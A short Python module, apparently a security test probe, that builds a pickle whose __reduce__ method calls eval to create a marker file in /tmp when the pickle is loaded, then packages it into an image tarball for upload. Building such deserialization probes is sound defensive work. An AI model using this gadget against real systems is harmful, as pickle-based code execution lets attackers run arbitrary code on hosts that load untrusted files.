"""A pickle that runs a command when it is loaded, as PyTorch files and NumPy object arrays are."""

import pickle


def upload(kit):
    class Command:
        def __reduce__(self):
            return eval, (f"open('/tmp/{kit.known.mark}', 'w')",)

    return kit.image({"payload": kit.tools.File(pickle.dumps(Command()))}).tar()
